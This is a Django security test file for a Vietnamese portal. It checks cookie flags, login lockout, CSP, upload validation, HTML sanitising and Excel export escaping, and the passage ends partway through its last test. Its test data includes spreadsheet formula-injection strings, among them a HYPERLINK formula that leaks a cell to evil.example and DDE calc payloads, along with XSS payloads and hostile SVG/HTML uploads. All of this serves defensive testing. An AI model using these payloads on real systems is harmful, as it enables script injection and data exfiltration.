"""The portal as an attacker meets it: headers, cookies, lockout, uploads, rich text, exports.

Pages are found by crawling from the public home page, the admin registry and the staff
landing pages, following every link, so a page added later is checked without editing this
file; uploads are found from the models' file fields the same way.
"""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import hashlib
import io
import os
import re
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django import forms
from django.apps import apps
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection, models
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.http import HttpResponse
from django.test import Client, RequestFactory
from django.urls import Resolver404, get_resolver, resolve, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from PIL import Image

from associations.models import OrgUnit
from awards.models import AwardDecision, AwardState, Recipient
from khuyenhoc.query_cleaning import DropNulFromQueryMiddleware
from khuyenhoc.spreadsheets.writing import FORMULA_STARTS, XLSX, workbook_bytes
from learning.models import ImportJob as LearningImportJob
from learning.models import Registration
from news.models import Post, PostStatus, sanitize_body
from reports.models import ReportValue
from tests.conftest import client_for
from tests.factories import PASSWORD, UserFactory
from tests.khuyenhoc.test_admin_wording import reachable_pages

ROOT = Path(__file__).resolve().parents[2]

# ---------------------------------------------------------------------------------------------
# Production settings


def production_environment(**extra: str) -> dict[str, str]:
    # The browser tests' switch for the ORM under Playwright is no production setting.
    development = {"DEBUG", "SECRET_KEY", "DJANGO_ALLOW_ASYNC_UNSAFE"}
    environment = {k: v for k, v in os.environ.items() if k not in development}
    environment.update(
        DJANGO_SETTINGS_MODULE="khuyenhoc.settings",
        DEBUG="false",
        SECRET_KEY="k3-" + "x9Qp" * 16,
        ALLOWED_HOSTS="khuyenhoc.example.org",
        CSRF_TRUSTED_ORIGINS="https://khuyenhoc.example.org",
        # Production refuses to start without a shared cache; nothing here connects to it.
        CACHE_URL="redis://127.0.0.1:6379/3",
        **extra,
    )
    return environment


def test_the_deploy_checks_pass_with_production_variables():
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=production_environment(),
        capture_output=True,
        text=True,
    )

    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_the_deploy_checks_would_catch_an_insecure_cookie():
    # The check above can fail: an insecure session cookie is reported.
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=production_environment(SESSION_COOKIE_SECURE="false"),
        capture_output=True,
        text=True,
    )

    assert result.returncode != 0
    assert "security.W012" in result.stdout + result.stderr


def production_settings(*names: str) -> dict[str, str]:
    code = "import django; django.setup(); from django.conf import settings; " + "; ".join(
        f"print({name!r}, repr(settings.{name}))" for name in names
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=production_environment(),
        capture_output=True,
        text=True,
        check=True,
    )
    return dict(line.split(" ", 1) for line in result.stdout.splitlines())


def test_cookies_are_secure_and_out_of_scripts_reach_in_production():
    values = production_settings(
        "DEBUG",
        "SESSION_COOKIE_SECURE",
        "SESSION_COOKIE_HTTPONLY",
        "CSRF_COOKIE_SECURE",
        "CSRF_COOKIE_HTTPONLY",
        "SECURE_SSL_REDIRECT",
        "SECURE_HSTS_SECONDS",
    )

    assert values["DEBUG"] == "False"
    assert values["SESSION_COOKIE_SECURE"] == "True"
    assert values["SESSION_COOKIE_HTTPONLY"] == "True"
    assert values["CSRF_COOKIE_SECURE"] == "True"
    # No script of the portal reads the CSRF cookie: forms carry the token in a hidden field.
    assert values["CSRF_COOKIE_HTTPONLY"] == "True"
    assert values["SECURE_SSL_REDIRECT"] == "True"
    assert int(values["SECURE_HSTS_SECONDS"]) >= 31536000


def test_the_cookies_a_browser_receives_after_login_carry_the_flags(personas, settings):
    settings.SESSION_COOKIE_SECURE = True
    settings.CSRF_COOKIE_SECURE = True
    settings.CSRF_COOKIE_HTTPONLY = (
        production_settings("CSRF_COOKIE_HTTPONLY")["CSRF_COOKIE_HTTPONLY"] == "True"
    )
    client = Client(enforce_csrf_checks=True)
    page = client.get(reverse("admin:login"), secure=True)
    token = page.context["csrf_token"]

    response = client.post(
        reverse("admin:login"),
        {"username": "canbo_xa_mot", "password": PASSWORD, "csrfmiddlewaretoken": token},
        secure=True,
        headers={"referer": "https://testserver/admin/login/"},
    )

    assert response.status_code == 302
    session = response.cookies["sessionid"]
    csrf = page.cookies["csrftoken"]
    assert session["secure"]
    assert session["httponly"]
    assert csrf["secure"]
    assert csrf["httponly"]


def test_no_script_of_the_portal_reads_cookies():
    # What makes the HttpOnly CSRF cookie safe to set: nothing needs to read it.
    sources = [*ROOT.glob("static/**/*.js"), *ROOT.glob("*/static/**/*.js")]
    sources += [*ROOT.glob("templates/**/*.html"), *ROOT.glob("*/templates/**/*.html")]
    assert sources
    readers = [str(p) for p in sources if "document.cookie" in p.read_text(errors="ignore")]
    assert not readers


# ---------------------------------------------------------------------------------------------
# Login throttling


def test_repeated_wrong_passwords_lock_the_login_with_a_vietnamese_page(personas, settings):
    settings.AXES_ENABLED = True
    client = Client()
    statuses = [
        client.post(reverse("admin:login"), {"username": "canbo_xa_mot", "password": "x"})
        for _attempt in range(settings.AXES_FAILURE_LIMIT)
    ]
    assert [r.status_code for r in statuses[:-1]] == [200] * (settings.AXES_FAILURE_LIMIT - 1)

    response = client.post(
        reverse("admin:login"), {"username": "canbo_xa_mot", "password": PASSWORD}
    )

    assert response.status_code == 429
    page = response.content.decode()
    assert "Tài khoản tạm khóa" in page
    assert "sai mật khẩu quá nhiều lần" in page
    assert not re.search(r"Account locked|too many|try again", page, re.IGNORECASE)
    assert_strict_policy(response)
    assert client.get(reverse("admin:index")).status_code == 302


# ---------------------------------------------------------------------------------------------
# Content Security Policy on every page


def test_error_pages_and_refusals_carry_the_strict_policy(personas, tree):
    leader = client_for(personas.province_leader)
    for response in (
        Client().get("/khong-co-trang-nay/"),
        leader.get(reverse("admin:associations_orgunit_delete", args=[tree.district.pk])),
        Client().get(reverse("admin:index")),
        Client().post(reverse("news:home")),
    ):
        assert response.status_code in {302, 403, 404, 405}
        assert_strict_policy(response)


# Scripts of these types are data, never run; the CSP does not apply to them.
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}


def csp_directives(response) -> dict[str, list[str]]:
    header = response.get("Content-Security-Policy", "")
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = words[1:]
    return directives


def _sources(directives: dict[str, list[str]], name: str) -> list[str]:
    return directives.get(name, directives.get("default-src", []))


def assert_strict_policy(response) -> dict[str, list[str]]:
    directives = csp_directives(response)
    assert directives, f"{response.request['PATH_INFO']}: no Content-Security-Policy"
    for name in ("script-src", "style-src"):
        sources = _sources(directives, name)
        assert sources, (response.request["PATH_INFO"], name)
        assert "'unsafe-inline'" not in sources, (response.request["PATH_INFO"], name)
        assert "'unsafe-eval'" not in sources, (response.request["PATH_INFO"], name)
        assert "*" not in sources, (response.request["PATH_INFO"], name)
        assert "data:" not in sources, (response.request["PATH_INFO"], name)
    assert _sources(directives, "object-src") == ["'none'"]
    return directives


def _sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


URL_ATTRIBUTES = {"href", "src", "action", "formaction"}


def _runs_script(url: str | None) -> bool:
    return re.sub(r"[\s\x00-\x1f]", "", url or "").lower().startswith("javascript:")


class InlineCodeFinder(HTMLParser):
    """What the policy would block in a page: inline code not allowed by its hash."""

    def __init__(self, directives: dict[str, list[str]]) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts = _sources(directives, "script-src")
        self.styles = _sources(directives, "style-src")
        self.blocked: list[str] = []
        self.links: list[str] = []  # what a browser would fetch or follow on this site
        self._open: tuple[str, dict[str, str | None]] | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for name, value in attrs:
            if name == "style":
                self.blocked.append(f"<{tag} style={value!r}>")
            elif name.startswith("on") or (name in URL_ATTRIBUTES and _runs_script(value)):
                self.blocked.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and values.get("href"):
            self.links.append(values["href"] or "")
        if tag in {"img", "object", "iframe"} and values.get("src"):
            self.links.append(values["src"] or "")
        if (tag == "script" and not values.get("src")) or tag == "style":
            self._open, self._text = (tag, values), []

    def handle_data(self, data: str) -> None:
        if self._open is not None:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._open is None or self._open[0] != tag:
            return
        values, text = self._open[1], "".join(self._text)
        self._open = None
        if tag == "script":
            kind = (values.get("type") or "").lower()
            if kind in DATA_SCRIPT_TYPES or _sha256(text) in self.scripts:
                return
            self.blocked.append(f"<script>{text[:80]!r}")
        elif text and _sha256(text) not in self.styles:
            self.blocked.append(f"<style>{text[:80]!r}")


def blocked_inline_code(response) -> tuple[list[str], list[str]]:
    finder = InlineCodeFinder(csp_directives(response))
    finder.feed(response.content.decode())
    finder.close()
    return finder.blocked, finder.links


def test_the_inline_code_finder_catches_what_the_policy_blocks():
    from django.http import HttpResponse

    response = HttpResponse(
        '<p style="color:red" onclick="x()">a</p><script>alert(1)</script><style>p{}</style>'
        '<a href=" javascript:alert(1)">b</a><script type="application/json">{}</script>'
        '<script src="/static/x.js"></script><style></style>'
    )
    response["Content-Security-Policy"] = "default-src 'self'"

    blocked, links = blocked_inline_code(response)

    assert len(blocked) == 5, blocked
    response["Content-Security-Policy"] = (
        f"default-src 'self'; script-src 'self' {_sha256('alert(1)')}; "
        f"style-src 'self' {_sha256('p{}')}"
    )
    assert len(blocked_inline_code(response)[0]) == 3
    assert links == [" javascript:alert(1)"]


SKIPPED_PATHS = ("/admin/logout/", "/static/", "/media/")


def crawl(client: Client, start: list[str], *, limit: int) -> dict[str, object]:
    """Every same-site page reachable from `start` by links, each query shape once."""
    seen_shapes: set[tuple[str, tuple[str, ...]]] = set()
    queue = list(dict.fromkeys(start))
    responses: dict[str, object] = {}
    while queue and len(responses) < limit:
        url = queue.pop(0)
        parts = urlsplit(url)
        if parts.scheme or parts.netloc or not parts.path.startswith("/"):
            continue
        if parts.path.startswith(SKIPPED_PATHS):
            continue
        params = tuple(sorted({p.split("=", 1)[0] for p in parts.query.split("&") if p}))
        shape = (re.sub(r"/\d+/", "/0/", parts.path), params)
        if shape in seen_shapes:
            continue
        seen_shapes.add(shape)
        response = client.get(url)
        responses[url] = response
        if response.status_code in {301, 302} and response.get("Location", "").startswith("/"):
            queue.append(response["Location"])
        if "text/html" in response.get("Content-Type", ""):
            _blocked, links = blocked_inline_code(response)
            queue.extend(link for link in links if not link.startswith("#"))
    return responses


@pytest.fixture
def demo(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.AXES_ENABLED = False
    settings.DEBUG = True  # the loader refuses otherwise; pytest-django turns it off
    cache.clear()
    call_command("load_demo_data", stdout=StringIO())
    settings.DEBUG = False
    yield
    cache.clear()  # the crawl filled the page cache; later tests must not read its pages


def check_pages(responses: dict[str, object]) -> tuple[int, dict[str, list[str]]]:
    problems: dict[str, list[str]] = {}
    html = 0
    for url, response in responses.items():
        assert response.status_code < 500, (url, response.status_code)
        assert_strict_policy(response)
        if "text/html" in response.get("Content-Type", "") and response.status_code == 200:
            html += 1
            blocked, _links = blocked_inline_code(response)
            if blocked:
                problems[url] = blocked
    return html, problems


# Text a spreadsheet program would run as a formula, one for each way a formula can start.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def make_the_data_hostile() -> None:
    """Names, addresses, recipients and report texts that look like formulas, for the exports."""
    site = OrgUnit.objects.get(name=settings.SITE_UNIT)
    above = [site.path[:end] for end in range(OrgUnit.steplen, len(site.path), OrgUnit.steplen)]
    keep = {site.pk, *OrgUnit.objects.filter(path__in=above).values_list("pk", flat=True)}
    units = OrgUnit.objects.exclude(pk__in=keep).order_by("path")
    for index, unit in enumerate(units):
        OrgUnit.objects.filter(pk=unit.pk).update(name=FORMULAS[index % 6] + unit.name)
    for index, registration in enumerate(Registration.objects.order_by("pk")[:300]):
        Registration.objects.filter(pk=registration.pk).update(
            name=FORMULAS[index % 6] + registration.name,
            address=FORMULAS[(index + 1) % 6],
            note=FORMULAS[(index + 2) % 6],
        )
    for index, recipient in enumerate(Recipient.objects.order_by("pk")):
        Recipient.objects.filter(pk=recipient.pk).update(name=FORMULAS[index % 6] + recipient.name)
    ReportValue.objects.filter(indicator__value_type="text").update(text=FORMULAS[0])
    cache.clear()


# XML reads a carriage return back as a line feed (so does a spreadsheet program): an escaped
# cell that began with one reads back beginning with a line feed, which runs nothing.
READ_BACK_STARTS = (*FORMULA_STARTS, "\n")


def _workbook_upload(headers: list[str], rows: list[list[object]]) -> SimpleUploadedFile:
    workbook = Workbook()
    workbook.active.append(headers)
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile("danh-sach.xlsx", buffer.getvalue())


def upload_hostile_imports(client: Client) -> list[str]:
    """Import jobs of formula-like rows, so that their pages and failed-rows files are crawled."""
    from awards.importing import RecipientImport
    from learning.importing import COLUMNS

    award = AwardDecision.objects.filter(state=AwardState.DRAFT).order_by("pk").first()
    assert award is not None
    upload_page = reverse("awards_staff:recipients_import", kwargs={"award_id": award.pk})
    rows = [
        [formula, formula + "Tên", "", formula, "6A", formula, "abc", "32/13/2012", "", formula]
        for formula in FORMULAS
    ]
    headers = [column.header for column in RecipientImport.columns]
    awards_job = client.post(upload_page, {"file": _workbook_upload(headers, rows)})
    assert awards_job.status_code == 302
    learning_rows = [[formula] * len(COLUMNS) for formula in FORMULAS]
    learning_job = client.post(
        reverse("admin:learning_registration_import"),
        {"file": _workbook_upload([header for _field, header in COLUMNS], learning_rows)},
    )
    assert learning_job.status_code == 302
    return [
        upload_page,
        awards_job["Location"],
        learning_job["Location"],
        reverse("awards_staff:import_template"),
    ]


def formula_problems(content: bytes) -> tuple[list[str], int]:
    """Cells a spreadsheet program would run, and how many formula-like texts were escaped."""
    problems, escaped = [], 0
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(READ_BACK_STARTS):
                    if cell.quotePrefix:
                        escaped += 1
                    elif cell.value.startswith(FORMULA_STARTS):
                        problems.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
    return problems, escaped


def test_every_page_has_a_strict_policy_no_inline_code_and_exports_escape_formulae(demo):
    # Every post the demo loader wrote is what the sanitiser keeps.
    assert all(post.body == sanitize_body(post.body) for post in Post.objects.all())
    make_the_data_hostile()
    public = crawl(Client(), ["/", "/so-lieu/", "/khen-thuong/", "/tim-kiem/?q=hoc"], limit=150)
    superuser = get_user_model().objects.filter(is_superuser=True).first()
    client = client_for(superuser)
    job_pages = upload_hostile_imports(client)
    start = [
        *reachable_pages(superuser),
        *job_pages,
        reverse("dashboards:home"),
        reverse("reports:index"),
        reverse("awards_staff:board"),
    ]
    staff = crawl(client, start, limit=600)

    public_html, public_problems = check_pages(public)
    staff_html, staff_problems = check_pages(staff)

    print(f"public pages checked: {len(public)} ({public_html} HTML)")
    print(f"admin and staff pages checked: {len(staff)} ({staff_html} HTML)")
    assert public_html >= 20
    reached = {urlsplit(url).path for url in staff}
    assert reverse("admin:news_post_add") in reached  # the editor, with its hashed import map
    assert any(path.startswith("/bao-cao/") and "/don-vi/" in path for path in reached)
    assert any(path.startswith("/quan-ly/khen-thuong/quyet-dinh/") for path in reached)
    assert any(path.startswith("/bang-dieu-khien/don-vi/") for path in reached)
    assert any(path.endswith(".svg") for path in reached)  # the charts
    assert any(re.search(r"/admin/\w+/\w+/\d+/change/$", path) for path in reached)
    assert not public_problems, public_problems
    assert not staff_problems, staff_problems
    # Every staff page that answers GET was crawled; the others answer POST only.
    staff_patterns = {
        f"{namespace}:{pattern.name}": pattern
        for namespace in settings.STAFF_URL_NAMESPACES
        for pattern in get_resolver().namespace_dict[namespace][1].url_patterns
    }
    reached_names = set()
    for path in reached:
        with contextlib.suppress(Resolver404):
            reached_names.add(resolve(path).view_name)
    for name in set(staff_patterns) - reached_names:
        kwargs = dict.fromkeys(staff_patterns[name].pattern.converters, 1)
        assert client.get(reverse(name, kwargs=kwargs)).status_code == 405, name
    crawled = len(reached_names & set(staff_patterns))
    print(f"staff URL patterns: {len(staff_patterns)}, crawled: {crawled}, the rest POST only")
    exports = {
        url: response
        for url, response in {**public, **staff}.items()
        if response.get("Content-Type", "").startswith(XLSX) and response.status_code == 200
    }
    checked = {url: formula_problems(response.content) for url, response in exports.items()}
    print(f"Excel exports checked: {len(exports)}")
    print(
        "\n".join(
            f"  {url}: {escaped} formula-like cells kept as text"
            for url, (_p, escaped) in checked.items()
        )
    )
    assert not {url: problems for url, (problems, _e) in checked.items() if problems}
    by_kind = {
        "dashboard": "/bang-dieu-khien/don-vi/",
        "report": "/xuat-excel/",
        "registrations": "/admin/learning/registration/",
        "award list": "/danh-sach.xlsx",
        "failed rows": "/dong-loi",
    }
    for kind, marker in by_kind.items():
        assert any(marker in url and escaped for url, (_p, escaped) in checked.items()), kind


# ---------------------------------------------------------------------------------------------
# Uploads: every file field of every model, found from the models


def file_fields() -> list[tuple[type, object]]:
    return [
        (model, field)
        for model in apps.get_models()
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    ]


def _png(size: tuple[int, int], mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format="PNG")
    return buffer.getvalue()


def _jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (800, 600), (200, 120, 40)).save(buffer, format="JPEG")
    return buffer.getvalue()


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["Tên", "Số"])
    workbook.save(buffer)
    return buffer.getvalue()


def _zip_of(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def hostile_uploads() -> list[tuple[str, SimpleUploadedFile]]:
    """Files no upload may accept, whatever the field: each with why."""
    cases = [
        ("SVG", SimpleUploadedFile("logo.svg", SVG, content_type="image/svg+xml")),
        ("SVG renamed .jpg", SimpleUploadedFile("anh.jpg", SVG, content_type="image/jpeg")),
        ("SVG renamed .png", SimpleUploadedFile("anh.png", SVG, content_type="image/png")),
        ("HTML", SimpleUploadedFile("trang.html", HTML, content_type="text/html")),
        ("HTML renamed .jpg", SimpleUploadedFile("anh.jpg", HTML, content_type="image/jpeg")),
        ("HTML renamed .pdf", SimpleUploadedFile("qd.pdf", HTML, content_type="application/pdf")),
        ("HTML renamed .xlsx", SimpleUploadedFile("ds.xlsx", HTML)),
        ("HTML renamed .docx", SimpleUploadedFile("vb.docx", HTML)),
        ("a zip of HTML renamed .xlsx", SimpleUploadedFile("ds.xlsx", _zip_of("a.html", HTML))),
        ("a PDF renamed .jpg", SimpleUploadedFile("anh.jpg", PDF, content_type="image/jpeg")),
        ("a workbook renamed .pdf", SimpleUploadedFile("qd.pdf", _xlsx())),
        # 81 million pixels in a few kilobytes: a decompression bomb for whoever resizes it.
        ("too many pixels", SimpleUploadedFile("anh.png", _png((9000, 9000), mode="1"))),
    ]
    for name, content in (("anh.jpg", _jpeg()), ("qd.pdf", PDF), ("ds.xlsx", _xlsx())):
        oversized = SimpleUploadedFile(name, content)
        oversized.size = 500 * 1024 * 1024  # what the upload handler reports for a huge file
        cases.append((f"500 MB {name}", oversized))
    return cases


def good_uploads() -> list[SimpleUploadedFile]:
    return [
        SimpleUploadedFile("anh.jpg", _jpeg(), content_type="image/jpeg"),
        SimpleUploadedFile("qd.pdf", PDF, content_type="application/pdf"),
        SimpleUploadedFile("ds.xlsx", _xlsx()),
    ]


def _refusal(check, upload: SimpleUploadedFile) -> list[str] | None:
    """The messages `check` refuses `upload` with; None when it accepts it."""
    upload.seek(0)
    try:
        check(upload)
    except ValidationError as error:
        return error.messages
    return None


def _is_vietnamese(message: str) -> bool:
    return any(ord(letter) > 127 for letter in message)


def test_every_file_field_refuses_svg_html_disguised_huge_and_bomb_files():
    fields = file_fields()
    names = {f"{model._meta.label}.{field.name}" for model, field in fields}
    # The uploads the portal has today; one added later is checked all the same.
    assert {
        "news.Post.cover",
        "news.PostPhoto.image",
        "news.DocumentFile.file",
        "news.AlbumPhoto.image",
        "associations.Decision.file",
        "learning.ImportJob.file",
        "awards.RecipientImportJob.file",
    } <= names

    accepted: dict[str, list[str]] = {}
    english: dict[str, list[str]] = {}
    for model, field in fields:
        label = f"{model._meta.label}.{field.name}"
        for why, upload in hostile_uploads():
            messages = _refusal(field.run_validators, upload)
            if messages is None:
                accepted.setdefault(label, []).append(why)
            elif not all(_is_vietnamese(message) for message in messages):
                english.setdefault(label, []).extend(messages)
        # The checks are on the content, not a blanket refusal: each field takes a real file.
        assert any(_refusal(field.run_validators, good) is None for good in good_uploads()), label

    assert not accepted, accepted
    assert not english, english


def upload_forms() -> list[tuple[type, str, object]]:
    """Every file field of every form of the portal that is not a model's own field."""
    get_resolver().url_patterns  # noqa: B018  # imports every view, admin and form module
    found, pending = [], list(forms.BaseForm.__subclasses__())
    while pending:
        form = pending.pop()
        pending.extend(form.__subclasses__())
        if form.__module__.split(".")[0] not in {app.label for app in apps.get_app_configs()}:
            continue
        model = getattr(getattr(form, "_meta", None), "model", None)
        for name, field in getattr(form, "base_fields", {}).items():
            own = model is not None and name in {f.name for f in model._meta.get_fields()}
            if isinstance(field, forms.FileField) and not own:
                found.append((form, name, field))
    return found


def test_every_upload_form_field_refuses_svg_html_disguised_huge_and_bomb_files():
    found = upload_forms()
    labels = {f"{form.__module__}.{form.__name__}.{name}" for form, name, _field in found}
    assert {
        "learning.admin.ImportUploadForm.file",
        "reports.forms.ImportUploadForm.file",
        "awards.forms.ImportForm.file",
    } <= labels, labels

    accepted: dict[str, list[str]] = {}
    for form, name, field in found:
        label = f"{form.__module__}.{form.__name__}.{name}"
        for why, upload in hostile_uploads():
            messages = _refusal(field.clean, upload)
            if messages is None:
                accepted.setdefault(label, []).append(why)
            else:
                assert all(_is_vietnamese(message) for message in messages), (label, messages)
        assert any(_refusal(field.clean, good) is None for good in good_uploads()), label

    assert not accepted, accepted


def test_an_html_page_renamed_xlsx_is_refused_before_anything_is_stored(personas):
    client = client_for(personas.commune_a_staff)

    response = client.post(
        reverse("admin:learning_registration_import"),
        {"file": SimpleUploadedFile("dang-ky.xlsx", HTML)},
    )

    assert response.status_code == 200
    assert "Không đọc được tệp" in response.content.decode()
    assert not LearningImportJob.objects.exists()


# ---------------------------------------------------------------------------------------------
# Rich text: every path that writes a post's body, and the page that shows it

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src="/media/x.jpg" onerror="alert(1)">',
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '<a href="  JaVa&#x09;ScRiPt:alert(1)">bấm</a>',
    '<svg onload="alert(1)"></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">chữ</p>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<style>body{display:none}</style>",
]
HOSTILE_BODY = "<p>Nội dung <strong>đậm</strong></p>" + "".join(PAYLOADS)


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for sign in ("<script", "onerror", "onload", "onclick", "javascript", "<iframe", "<svg"):
        assert sign not in lowered, (sign, html)
    assert "style" not in lowered, html
    assert "data:" not in lowered, html


def _post_fields(tree) -> dict[str, object]:
    from tests.news.helpers import make_category

    return {
        "title": "Hội nghị giao ban",
        "lead": "Tóm tắt.",
        "category": make_category(),
        "unit": tree.district,
        "status": PostStatus.PUBLISHED,
        "published_at": timezone.now() - dt.timedelta(hours=1),
    }


def _body_on_page(post: Post) -> str:
    page = Client().get(post.get_absolute_url())
    assert page.status_code == 200
    match = re.search(r'<div class="article__body">(.*?)</div>', page.content.decode(), re.S)
    assert match
    return match.group(1)


def test_the_admin_form_stores_and_shows_a_hostile_body_harmless(tree, personas):
    from tests.news.helpers import make_category

    client = client_for(personas.district_staff)
    response = client.post(
        reverse("admin:news_post_add"),
        {
            "title": "Hội nghị giao ban cụm thi đua",
            "lead": "Các Hội cơ sở báo cáo kết quả.",
            "body": HOSTILE_BODY,
            "category": make_category().pk,
            "unit": tree.district.pk,
            "published_at_0": "",
            "published_at_1": "",
            "photos-TOTAL_FORMS": "0",
            "photos-INITIAL_FORMS": "0",
            "status_changes-TOTAL_FORMS": "0",
            "status_changes-INITIAL_FORMS": "0",
        },
    )

    assert response.status_code == 302
    post = Post.objects.get()
    assert_harmless(post.body)
    assert "<strong>đậm</strong>" in post.body


def test_every_write_path_of_the_model_sanitises_the_body(tree):
    created = Post.objects.create(**_post_fields(tree), body=HOSTILE_BODY)
    saved = Post(**_post_fields(tree), body="<p>x</p>")
    saved.save()
    saved.body = HOSTILE_BODY
    saved.save(update_fields=["body"])
    updated = Post.objects.create(**_post_fields(tree), body="<p>x</p>")
    Post.objects.filter(pk=updated.pk).update(body=HOSTILE_BODY)
    [bulk] = Post.objects.bulk_create([Post(**_post_fields(tree), slug="bulk", body=HOSTILE_BODY)])
    bulk_updated = Post.objects.create(**_post_fields(tree), body="<p>x</p>")
    bulk_updated.body = HOSTILE_BODY
    Post.objects.bulk_update([bulk_updated], ["body"])

    for post in (created, saved, updated, bulk, bulk_updated):
        stored = Post.objects.get(pk=post.pk).body
        assert_harmless(stored)
        assert "<strong>đậm</strong>" in stored
        assert_harmless(_body_on_page(Post.objects.get(pk=post.pk)))


def test_a_body_written_around_the_model_is_still_shown_harmless(tree):
    post = Post.objects.create(**_post_fields(tree), body="<p>x</p>")
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE {Post._meta.db_table} SET body = %s WHERE id = %s", [HOSTILE_BODY, post.pk]
        )
    assert "<script>" in Post.objects.get(pk=post.pk).body  # really stored as written

    shown = _body_on_page(post)

    assert_harmless(shown)
    assert "<strong>đậm</strong>" in shown


def test_an_expression_cannot_slip_a_body_past_the_sanitiser(tree):
    post = Post.objects.create(**_post_fields(tree), body="<p>x</p>")

    with pytest.raises(TypeError):
        Post.objects.filter(pk=post.pk).update(body=Concat(F("body"), Value("<script>")))


# ---------------------------------------------------------------------------------------------
# Password reset


def _without_tokens(html: bytes) -> str:
    """The page without what differs on every request anyway (CSRF token, CSP nonce)."""
    html = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", html.decode())
    return re.sub(r'nonce="[^"]*"', "", html)


def test_the_password_reset_answers_alike_for_every_kind_of_address(db):
    UserFactory(username="canbo", email="canbo@example.org")
    UserFactory(username="nghi", email="nghi@example.org", is_active=False)
    no_password = UserFactory(username="khongmk", email="khongmk@example.org")
    no_password.set_unusable_password()
    no_password.save()
    url = reverse("admin_password_reset")

    answers = {}
    for address in (
        "canbo@example.org",
        "CANBO@EXAMPLE.ORG",
        "khong-co@example.org",
        "nghi@example.org",
        "khongmk@example.org",
    ):
        response = Client().post(url, {"email": address}, follow=True)
        answers[address] = (
            response.status_code,
            tuple(response.redirect_chain),
            _without_tokens(response.content),
        )

    assert len(set(answers.values())) == 1, {a: v[:2] for a, v in answers.items()}
    status, chain, page = next(iter(answers.values()))
    assert status == 200
    assert chain == ((reverse("password_reset_done"), 302),)
    assert "khong-co" not in page
    assert [message.to for message in mail.outbox] == [["canbo@example.org"]] * 2


# ---------------------------------------------------------------------------------------------
# Excel files the crawl above cannot reach by a link

# Every module that builds a workbook for download, and where its output is checked: the
# crawl (test_every_page_...), or the test below. A new one fails here until it is checked.
WORKBOOK_WRITERS = {
    "awards/importing.py",  # the award list (crawl) and its import template (below)
    "dashboards/exports.py",  # the dashboard table (crawl)
    "khuyenhoc/spreadsheets/engine.py",  # import templates and failed rows (crawl, below)
    "learning/importing.py",  # the registration export and template (crawl, below)
    "reports/excel.py",  # the report export and its import template (crawl)
}


def test_every_module_that_writes_a_workbook_is_checked():
    writers = set()
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/")) or relative.endswith("benchmarks.py"):
            continue
        if re.search(r"\bWorkbook\(", path.read_text()):
            writers.add(relative)

    assert writers == WORKBOOK_WRITERS


def test_templates_and_failed_rows_keep_formula_like_text_as_text(tree, personas):
    from awards.importing import RecipientImport
    from learning import importing

    for index, unit in enumerate(OrgUnit.objects.order_by("path")):
        OrgUnit.objects.filter(pk=unit.pk).update(name=FORMULAS[index % 6] + unit.name)
    staff = get_user_model().objects.get(pk=personas.commune_a_staff.pk)
    job = LearningImportJob.objects.create(
        created_by=staff,
        errors=[
            {"row": 2 + i, "values": [formula] * 8, "message": formula}
            for i, formula in enumerate(FORMULAS)
        ],
    )

